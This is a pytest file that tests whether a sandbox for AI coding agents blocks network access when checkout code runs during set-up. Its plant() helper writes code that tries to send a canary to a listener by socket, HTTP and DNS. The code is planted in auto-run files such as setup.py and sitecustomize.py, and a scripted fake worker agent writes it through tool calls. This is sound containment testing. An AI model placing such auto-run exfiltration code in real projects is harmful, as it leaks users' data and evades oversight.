"""No repository code with the network on (issue 15 item 3).

A set-up runs code from the checkout: ``setup.py`` under ``pip install -e .``, a planted
``venv.py`` or ``pip/`` that shadows the real module, a ``sitecustomize``, a ``conftest``.
Each plant here tries to reach a listener on the host's loopback (directly, through the
set-up's proxy, by DNS) and send a canary. The listener must receive nothing, while the
set-up still reaches the package index it is allowed (a loopback HTTP server standing in
for PyPI, named in the allow-list). Once with a trusted ``SANDBOX_SETUP_COMMAND``, once
through the real pipeline with the auto-detected Python set-up judging a worker's change.
"""

from __future__ import annotations

import http.server
import shutil
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from longshot.events import ChecksPlanned, GateResult
from longshot.sandboxes.base import SandboxSpec
from longshot.sandboxes.local import LocalOptions, LocalSandboxProvider
from longshot.testing.fake_script import Reply, RoleScript, ToolCallSpec, Turn
from longshot.testing.repos import git, make_remote

from helpers import plan_json, planner_then_done, run_cli, run_env, run_log
from listener import Listener

pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None, reason="bubblewrap is not installed")

CANARY = "setup-canary-7f3a"


@pytest.fixture
def listener() -> Iterator[Listener]:
    found = Listener()
    yield found
    found.close()


@pytest.fixture
def index() -> Iterator[tuple[int, list[str]]]:
    """A loopback HTTP server standing in for the package index: (port, paths requested)."""
    hits: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"wheel-bytes")

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1], hits
    server.shutdown()
    server.server_close()


def plant(port: int) -> str:
    """Python that sends the canary to the host listener every way it can, then carries on."""
    return (
        "import os, socket, urllib.request\n"
        "for attempt in range(1):\n"
        f"    try:\n        s = socket.create_connection(('127.0.0.1', {port}), 2); s.sendall(b'{CANARY}-direct'); s.close()\n"
        "    except OSError: pass\n"
        f"    try:\n        urllib.request.urlopen('http://127.0.0.1:{port}/{CANARY}-proxy', timeout=3).read()\n"
        "    except Exception: pass\n"
        f"    try:\n        socket.getaddrinfo('{CANARY}.example.com', 80)\n"
        "    except OSError: pass\n"
    )


def planted_files(port: int) -> dict[str, str]:
    code = plant(port)
    return {"setup.py": code, "venv.py": code, "pip/__init__.py": code, "sitecustomize.py": code,
            "conftest.py": code, "ensurepip.py": code}


async def test_a_trusted_setup_running_checkout_code_reaches_only_the_index(
        tmp_path: Path, listener: Listener, index: tuple[int, list[str]]) -> None:
    port, hits = index
    remote = make_remote(tmp_path, {"README.md": "x\n", **planted_files(listener.port)})
    hub = tmp_path / "hub.git"
    git("clone", "--quiet", "--bare", str(remote), str(hub), cwd=tmp_path)
    base = git("rev-parse", "main", cwd=hub)
    fetch = f"python3 -I -c \"import urllib.request; urllib.request.urlopen('http://127.0.0.1:{port}/simple/pkg/').read()\""
    # What `pip install -e .` and `python -m venv` do: run the project's setup.py, import from the checkout.
    setup = f"python3 setup.py; python3 -m venv --help >/dev/null; python3 -m pip --version >/dev/null; {fetch}"
    provider = LocalSandboxProvider(tmp_path / "work", LocalOptions(
        setup_command=setup, setup_timeout=60, setup_hosts=(f"127.0.0.1:{port}",)))
    async with provider.open(SandboxSpec(task_id="t1", branch="worker/t1", base_commit=base, hub=hub)):
        pass
    assert hits == ["/simple/pkg/"], "the set-up did not reach the allowed index"
    assert listener.connections == 0 and listener.received == b"", listener.received


def worker(turn: Turn, port: int) -> Reply:
    # Not conftest.py: a protected path, refused before any check runs (tests/pipeline/test_gate.py).
    writes = [ToolCallSpec("write", {"path": p, "content": c}) for p, c in planted_files(port).items()
              if p != "conftest.py"]
    steps = [*writes, ToolCallSpec("write", {"path": "calc/add.py", "content": "def add(a, b):\n    return a + b\n"}),
             ToolCallSpec("handoff", {"status": "complete", "summary": "added add"})]
    return Reply(tool_calls=[steps[min(turn.turn, len(steps) - 1)]])


def test_the_detected_python_setup_never_runs_a_candidates_code_with_the_network(
        tmp_path: Path, fake_llm, remote, listener: Listener) -> None:
    target = remote({"pyproject.toml": "[project]\nname = 'calc'\nversion = '0'\n", "calc/__init__.py": "",
                     "tests/test_smoke.py": "def test_smoke():\n    import calc\n"})
    tasks = [{"id": "t1", "description": "add calc/add.py", "scope": ["calc/add.py"]}]
    fake = fake_llm(RoleScript({"planner": planner_then_done(plan_json(tasks)),
                                "worker": lambda turn: worker(turn, listener.port),
                                "reconciler": lambda turn: Reply(content=plan_json([], "nothing"))}))
    env = run_env(tmp_path, target, fake, RECONCILER_INTERVAL="1000", FINALIZATION_MAX_ATTEMPTS="1")
    del env["CHECK_COMMANDS"]  # the auto-detected Python set-up and pytest

    done = run_cli(["add it"], env, cwd=tmp_path, timeout=300)

    assert listener.connections == 0 and listener.received == b"", listener.received
    assert done.returncode in (0, 1), done.stdout[-3000:] + done.stderr[-3000:]
    events = run_log(tmp_path)
    plans = [e for e in events if isinstance(e, ChecksPlanned)]
    assert plans and plans[0].setup, "the Python set-up was not detected"
    gate = [e for e in events if isinstance(e, GateResult)]
    assert gate and "protected" not in gate[0].reason, "the candidate's set-up never ran"
